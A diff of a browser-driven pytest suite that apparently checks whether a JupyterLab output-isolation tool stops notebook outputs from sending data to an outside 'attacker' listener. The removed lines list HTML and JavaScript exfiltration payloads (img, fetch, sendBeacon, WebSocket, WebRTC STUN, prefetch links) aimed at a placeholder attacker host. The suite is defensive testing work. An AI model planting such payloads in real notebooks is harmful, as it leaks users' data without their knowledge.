@@ -1,107 +1,151 @@
-"""Outputs that carry data out, in a real JupyterLab without the server's headers: a direct kernel's reach the attacker,
+"""Outputs that carry data out, in a real JupyterLab, in Chromium and in Firefox: a direct kernel's reach the attacker,
 the same ones from behind the wall do not.
 
-The attacker has an HTTP server and a UDP port (for WebRTC); the browser's own log of name look-ups stands for his DNS server.
+The attacker has an HTTP server and ports for what is not HTTP (WebRTC, WebTransport, connections alone); the browser's own
+log of name look-ups stands for his DNS server. The notebook server is without the headers that cellwall proposes, but
+where they are what is tried.
 """
 
 import contextlib
 import json
+import re
 import socket
 import time
 
 import harness
 import pytest
 from conftest import Lab, notebook, start_browser
+from firefox import Firefox
+from selenium.common.exceptions import WebDriverException
 from selenium.webdriver.common.action_chains import ActionChains
 from selenium.webdriver.common.by import By
 from test_headers import Listener
-from test_lab import current, open_notebook, run_cell, shot, until
+from test_lab import command, current, find, open_notebook, shot, until
+from vectors import CLICKED, MARKUP, OTHER, SCRIPTED, WHOLE, html_of, outputs
 
-# Markup that asks TO for /NAME without a script or a click.
-MARKUP = {
-    "img": '<img src="TO/img">',
-    "style": '<div style="background:url(TO/style)">x</div>',
-    "import": '<style>@import url("TO/import");</style>',
-    "font": "<style>@font-face{font-family:f;src:url(TO/font)}</style><p style='font-family:f'>x</p>",
-    "stylesheet": '<link rel="stylesheet" href="TO/stylesheet">',
-    "prefetch": '<link rel="prefetch" href="TO/prefetch">',
-    "preload": '<link rel="preload" as="script" href="TO/preload">',
-    "video": '<video src="TO/video" poster="TO/poster"></video>',
-    "audio": '<audio src="TO/audio" preload="auto"></audio>',
-    "object": '<object data="TO/object"></object>',
-    "embed": '<embed src="TO/embed">',
-    "svg": '<svg><image href="TO/svg" width="9" height="9"/></svg>',
-    "iframe": '<iframe src="TO/iframe"></iframe>',
-    "srcdoc": "<iframe srcdoc='<img src=\"TO/srcdoc\">'></iframe>",
-    "dns": '<link rel="dns-prefetch" href="//dns-prefetch.KIND.test"><link rel="preconnect" href="//preconnect.KIND.test">',
-    "input": '<input type="image" src="TO/input">',
+PORTS = {
+    "stun": socket.SOCK_DGRAM,
+    "transport": socket.SOCK_DGRAM,
+    "turn": socket.SOCK_STREAM,
+    "preconnect": socket.SOCK_STREAM,
 }
-# And by a script, in an output of its own.
-SCRIPT = {
-    "fetch": "fetch('TO/fetch', {mode: 'no-cors'})",
-    "xhr": "{const x = new XMLHttpRequest(); x.open('GET', 'TO/xhr'); x.send();}",
-    "beacon": "navigator.sendBeacon('TO/beacon', 'x')",
-    "websocket": "new WebSocket('TO/websocket'.replace('http', 'ws'))",
-    "events": "new EventSource('TO/events')",
-    "imported": "import('TO/imported')",
-    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('TO/worker', {mode: 'no-cors'})\"])))",
-    "form": "{const f = document.createElement('form'); f.action = 'TO/form'; f.target = '_blank'; document.body.append(f);"
-    " f.submit();}",
-    "stun": "{const c = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]}); c.createDataChannel('x');"
-    " c.createOffer().then(o => c.setLocalDescription(o));}",
+# Not heard from a direct kernel either: a pop-up needs a click, an SVG is a picture, what no browser has (any more), what
+# only a header can ask for, and names, which are no requests.
+QUIET = {"form", "popup", "svgimage", "portal", "policy", "rules", "names", "named"}
+QUIET_IN = {
+    "chromium": set(),
+    "firefox": {"later", "pinged", "refresh"},  # unknown, switched off, and not from what JupyterLab puts into its page
 }
-# Other types with the same power.
-OTHER = {
-    "javascript": {"application/javascript": "fetch('TO/javascript', {mode: 'no-cors'})"},
-    "markdown": {"text/markdown": "![x](TO/markdown)"},
-    "svgimage": {"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg"><image href="TO/svgimage"/></svg>'},
+PER_CELL = 40  # JupyterLab shows 50 outputs of a cell
+# The names that are looked up for a direct kernel.
+NAMES = {
+    "chromium": {"dns-prefetch", "preconnect", "script", "stun"},
+    "firefox": {"dns-prefetch", "preconnect", "script", "stun", "anchor", "printed"},
 }
-LINKS = '<a href="TO/self">aaaa</a> <a href="TO/blank" target="_blank">bbbb</a> <a href="TO/top" target="_top">cccc</a>'
-# The second one needs a frame: clicks in it are clicks on links and a form of the frame's own.
-CLICKED = [
-    {"text/html": LINKS},
-    {
-        "text/html": "<style>a, button { display: inline-block; width: 40px }</style>"
-        '<a href="TO/ping" ping="TO/pinged">eeee</a> ' + LINKS + '<form action="TO/posted" method="post" target="_blank">'
-        '<button>dddd</button></form>'
-    },
-]
-
-
-def cells(kind, to, udp):
-    """All that needs no click, and the links."""
-    outputs = [{"text/html": markup} for markup in MARKUP.values()]
-    outputs += [{"text/html": f"<script>{script}</script>"} for script in SCRIPT.values()]
-    outputs += list(OTHER.values())
-    outputs, clicked = (
-        json.dumps(text).replace("TO/", f"{to}/{kind}-").replace("UDP", str(udp)).replace("KIND", kind)
-        for text in (outputs, CLICKED)
-    )
-    show = "import json\nfrom IPython.display import display\n"
-    return [
-        f"{show}for data in json.loads({outputs!r}):\n    display(data, raw=True)\nprint('all were', 'shown')",
-        f"{show}for data in json.loads({clicked!r}):\n    display(data, raw=True)",
-    ]
 
 
 class Attacker(Listener):
-    """Knows the two kernels apart by what is asked for."""
+    """Knows who shows it by what is asked for."""
 
     def __init__(self):
         super().__init__()
-        self.udp = {}
-        for kind in (harness.DIRECT, harness.ISOLATED):
-            self.udp[kind] = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-            self.udp[kind].bind(("127.0.0.1", 0))
-            self.udp[kind].settimeout(0.1)
+        self.ports, self.found = {}, {}
+
+    def port(self, kind, name):
+        """A port of its own for each."""
+        if (kind, name) not in self.ports:
+            one = self.ports[kind, name] = socket.socket(socket.AF_INET, PORTS[name])
+            one.bind(("127.0.0.1", 0))
+            one.settimeout(0.05)
+            if PORTS[name] == socket.SOCK_STREAM:
+                one.listen()
+        return self.ports[kind, name].getsockname()[1]
+
+    def addressed(self, kind, text):
+        """`text` with this attacker's addresses in it."""
+        text = re.sub(r"PORT-(\w+)", lambda match: str(self.port(kind, match[1])), text)
+        return text.replace("TO/", f"{self.url}/{kind}-").replace("KIND", kind)
 
     def heard(self, kind):
-        """What reached it from this kernel's outputs."""
-        found = {path.removeprefix(f"/{kind}-") for path in list(self.asked) if path.startswith(f"/{kind}-")}
-        with contextlib.suppress(TimeoutError):
-            if self.udp[kind].recv(2048):
-                found.add("stun")
+        """What reached it from this kernel's outputs so far."""
+        found = self.found.setdefault(kind, set())
+        found |= {match[1] for path in list(self.asked) if (match := re.match(rf"/{kind}-(\w+)", path))}
+        for (whose, name), one in self.ports.items():
+            with contextlib.suppress(TimeoutError):
+                if whose == kind and (one.accept() if PORTS[name] == socket.SOCK_STREAM else one.recv(2048)):
+                    found.add(name)
         return found
+
+
+class Stage:
+    """A browser, its log of names, and the attacker."""
+
+    def __init__(self, site, attacker, name, kind):
+        self.attacker, self.kind = attacker, kind
+        self.names = site.root / f"{name}.names"
+        if kind == "firefox":
+            self.browser = Firefox(site.root / name, self.names, site.environment)
+            self.names = site.root / f"{name}.names.moz_log"
+        else:
+            self.browser = start_browser(site, name, f"--log-net-log={self.names}")
+
+    def show(self, lab, kernel, who, whole=True):
+        """All outputs, in a notebook of its own."""
+        self.close_others()
+        every = outputs(whole)
+        parts = [every[at : at + PER_CELL] for at in range(0, len(every), PER_CELL)] + [html_of(dict(enumerate(CLICKED)))]
+        show = "import json\nfrom IPython.display import display\nfor data in json.loads({!r}): display(data, raw=True)"
+        cells = [show.format(self.attacker.addressed(who, json.dumps(part))) for part in parts]
+        cells[0] = f"print('https://printed.{who}.test/')\n{cells[0]}"
+        lab.site.put(lab.folder, f"service-{who}.js", f"fetch('{self.attacker.url}/{who}-service', {{mode: 'no-cors'}})")
+        lab.site.put(lab.folder, f"leaks-{who}.ipynb", notebook(cells, kernel))
+        open_notebook(self.browser, lab, f"leaks-{who}.ipynb")
+        command(self.browser, "notebook:run-all-cells")
+        last = f"[{len(cells)}]:"
+        until(self.browser, lambda: current(self.browser)[-1]["prompt"].strip() == last, 60, f"all outputs {who}")
+        for output in find(self.browser, ".jp-OutputArea-output")[::8]:
+            self.browser.execute_script("arguments[0].scrollIntoView({block: 'start'})", output)
+            time.sleep(0.1)
+        time.sleep(3)
+
+    def waited(self, who, wanted):
+        """What did not reach the attacker in time."""
+        end = time.monotonic() + 30
+        while wanted - self.attacker.heard(who) and time.monotonic() < end:
+            time.sleep(0.2)
+        return wanted - self.attacker.heard(who)
+
+    def click(self, element, x=0, y=0):
+        self.browser.execute_script("arguments[0].scrollIntoView({block: 'center'})", element)
+        ActionChains(self.browser, duration=0).move_to_element_with_offset(element, x, y).click().perform()
+
+    def click_everywhere(self):
+        """All of what is to be clicked, by the mouse."""
+        area = self.browser.find_elements(By.CSS_SELECTOR, ".jp-CodeCell")[-1]
+        shown = area.find_elements(By.CSS_SELECTOR, ".jp-OutputArea-output")
+        assert len(shown) == len(CLICKED) and shown[1].find_elements(By.TAG_NAME, "iframe")
+        shot(self.browser, f"7-links-behind-the-wall-{self.kind}")
+        for output in shown:
+            width, height = int(output.size["width"]), int(output.size["height"])
+            for y in range(10, min(height, 60), 16):
+                for x in range(10, 240, 30):
+                    self.click(output, x - width // 2, y - height // 2)
+        # A link that is drawn out of the frame and dropped on the page.
+        output, page = shown[1], self.browser.find_element(By.CSS_SELECTOR, ".jp-Notebook")
+        drag = ActionChains(self.browser).move_to_element_with_offset(output, 20 - width // 2, 16 - height // 2)
+        drag.click_and_hold().move_by_offset(5, 5).move_to_element(page).release().perform()
+        time.sleep(1)
+
+    def stays(self, lab):
+        """Nothing was opened or sent elsewhere."""
+        return len(self.browser.window_handles) == 1 and self.browser.current_url.startswith(lab.url + "/lab")
+
+    def close_others(self):
+        first, *others = self.browser.window_handles
+        for handle in others:
+            self.browser.switch_to.window(handle)
+            self.browser.close()
+        self.browser.switch_to.window(first)
 
 
 @pytest.fixture(scope="module")
@@ -110,82 +154,73 @@ def attacker():
     yield attacker
     attacker.shutdown()
     attacker.server_close()
-    for udp in attacker.udp.values():
-        udp.close()
+    for one in attacker.ports.values():
+        one.close()
 
 
 @pytest.fixture(scope="module")
-def names(site):
-    """The browser's log of what it does on the network, names that it looks up among it."""
-    return site.root / "net.json"
-
-
-@pytest.fixture(scope="module")
-def plain(site, names):
+def plain(site):
+    """A server without the headers."""
     lab = Lab(site, headers=False)
-    browser = start_browser(site, "chromium-leaks", f"--log-net-log={names}")
-    yield browser, lab
-    browser.quit()
+    yield lab
     lab.close()
 
 
-def show_all(plain, attacker, kind):
-    browser, lab = plain
-    name = f"leaks-{kind}.ipynb"
-    port = attacker.udp[kind].getsockname()[1]
-    lab.site.put(lab.folder, name, notebook(cells(kind, attacker.url, port), kind))
-    open_notebook(browser, lab, name)
-    run_cell(browser, 0)
-    until(browser, lambda: "all were shown" in current(browser)[0]["text"], 60, "all outputs")
-    area = browser.find_elements(By.CSS_SELECTOR, ".jp-CodeCell")[0]
-    for output in area.find_elements(By.CSS_SELECTOR, ".jp-OutputArea-output"):
-        browser.execute_script("arguments[0].scrollIntoView({block: 'center'})", output)
-        time.sleep(0.1)
-    time.sleep(3)
-    run_cell(browser, 1)
-    until(browser, lambda: current(browser)[1]["prompt"].strip() not in ("[ ]:", "[*]:"), 60, "the links")
+@pytest.fixture(scope="module")
+def interactive(site):
+    return site.variant("--policy", site.policy({"outputs": {"mode": "interactive"}}))
 
 
-# Not heard from a direct kernel either: pop-ups need a click, an SVG is a picture, a name is no request.
-QUIET = {"form", "svgimage", "dns"}
+@pytest.fixture(scope="module", params=("chromium", "firefox"))
+def stage(request, site, attacker):
+    stage = Stage(site, attacker, f"leaks-{request.param}", request.param)
+    yield stage
+    with contextlib.suppress(WebDriverException, OSError):
+        stage.browser.quit()
 
 
-def test_a_direct_kernel_leaks(plain, attacker):
-    show_all(plain, attacker, harness.DIRECT)
-    browser = plain[0]
-    link = browser.find_element(By.LINK_TEXT, "bbbb")
-    browser.execute_script("arguments[0].scrollIntoView({block: 'center'})", link)
-    ActionChains(browser).move_to_element(link).click().perform()
-    time.sleep(1)
-    heard = attacker.heard(harness.DIRECT)
-    wanted = (set(MARKUP) | set(SCRIPT) | set(OTHER) | {"poster", "blank"}) - QUIET
-    assert wanted - heard == set()
+def test_a_direct_kernel_leaks(stage, plain):
+    who = f"{stage.kind}-direct"
+    stage.show(plain, harness.DIRECT, who, whole=False)
+    stage.close_others()  # what is behind another window loads no media
+    every = set(MARKUP) | set(SCRIPTED) | set(OTHER) | set(WHOLE)
+    assert stage.waited(who, every - QUIET - QUIET_IN[stage.kind]) == set()
+    for text in ("bbbb", "eeee"):
+        stage.click(stage.browser.find_element(By.LINK_TEXT, text))
+    stage.click(find(stage.browser, ".jp-OutputArea-output form button")[0])
+    assert stage.waited(who, {"bbbb", "ping", "pinged", "posted"} - QUIET_IN[stage.kind]) == set()
 
 
-def test_nothing_leaks_from_behind_the_wall(plain, attacker):
-    browser = plain[0]
-    for handle in browser.window_handles[1:]:
-        browser.switch_to.window(handle)
-        browser.close()
-    browser.switch_to.window(browser.window_handles[0])
-    show_all(plain, attacker, harness.ISOLATED)
-    area = browser.find_elements(By.CSS_SELECTOR, ".jp-CodeCell")[1]
-    outputs = area.find_elements(By.CSS_SELECTOR, ".jp-OutputArea-output")
-    assert len(outputs) == len(CLICKED) and outputs[1].find_elements(By.TAG_NAME, "iframe")
-    shot(browser, "7-links-behind-the-wall")
-    for output in outputs:
-        browser.execute_script("arguments[0].scrollIntoView({block: 'center'})", output)
-        width, height = output.size["width"], output.size["height"]
-        for y in range(10, min(height, 60), 16):
-            for x in range(10, 240, 20):
-                ActionChains(browser).move_to_element_with_offset(output, x - width // 2, y - height // 2).click().perform()
-    time.sleep(2)
-    assert attacker.heard(harness.ISOLATED) == set()
-    assert len(browser.window_handles) == 1 and "/lab" in browser.current_url
+def test_nothing_leaks_from_behind_the_wall(stage, plain):
+    who = f"{stage.kind}-isolated"
+    stage.show(plain, harness.ISOLATED, who)
+    stage.click_everywhere()
+    assert stage.attacker.heard(who) == set() and stage.stays(plain)
 
 
-def test_names_that_were_looked_up(plain, names):
-    plain[0].quit()  # its log is written to the end
-    log = names.read_text(errors="replace")
-    assert "dns-prefetch.direct.test" in log and "preconnect.direct.test" in log
-    assert ".isolated.test" not in log
+@pytest.mark.skipif(not harness.SLOW, reason="tests/run leaks")
+def test_scripts_of_outputs_make_no_request(stage, plain, interactive):
+    """In mode interactive. What is no request (WebRTC, connections, names) is for the headers to stop."""
+    who = f"{stage.kind}-interactive"
+    stage.show(plain, interactive, who)
+    stage.click_everywhere()
+    assert stage.attacker.heard(who) - set(PORTS) == set() and stage.stays(plain)
+
+
+def test_names_that_were_looked_up(stage):
+    stage.browser.quit()  # its log is written to the end
+    log = stage.names.read_text(errors="replace")
+    seen = {name for name in NAMES["firefox"] if f"{name}.{stage.kind}-direct.test" in log}
+    assert seen == NAMES[stage.kind]
+    assert f"{stage.kind}-isolated.test" not in log
+
+
+def test_with_the_headers_scripts_of_outputs_reach_nobody(site, lab, attacker, interactive):
+    stage = Stage(site, attacker, "headers-chromium", "chromium")
+    try:
+        stage.show(lab, interactive, "headers")
+        stage.click_everywhere()
+        assert attacker.heard("headers") == set() and stage.stays(lab)
+    finally:
+        stage.browser.quit()
+    assert "headers.test" not in stage.names.read_text(errors="replace")
